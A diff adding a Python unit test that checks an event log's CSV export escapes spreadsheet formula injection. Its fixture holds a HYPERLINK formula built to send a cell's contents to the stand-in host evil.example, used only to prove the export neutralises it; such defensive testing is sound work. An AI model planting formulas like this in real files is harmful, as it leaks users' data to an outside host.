@@ -38,6 +38,19 @@ class WhatIsKept(Temp):
                 with open(name, "rb") as f:
                     self.assertNotIn(b"biopsy", f.read(), name)
 
+    def test_csv_exports_are_safe_to_open_in_a_spreadsheet(self):
+        e = event("csv-1", evidence='=HYPERLINK("https://evil.example/?q="&A1,"Recording consent")')
+        e["page_title"] = "+1 555 0100"
+        h = Host(self.db)
+        self.assertEqual(h.ask({"id": 1, "op": "log", "events": [e]})["stored"], 1)
+        self.assertEqual(h.close(), 0)
+        csv = self.history("export").stdout
+        row = csv.splitlines()[1]
+        self.assertIn(',"\'=HYPERLINK(', row)
+        self.assertIn(',"\'+1 555 0100",', row)
+        self.assertNotIn(",=", row)
+        self.assertNotIn(",+", row)
+
     def test_show_site_part_and_choice_filters(self):
         h = Host(self.db)
         c = event("c1", site="app.zoom.us")
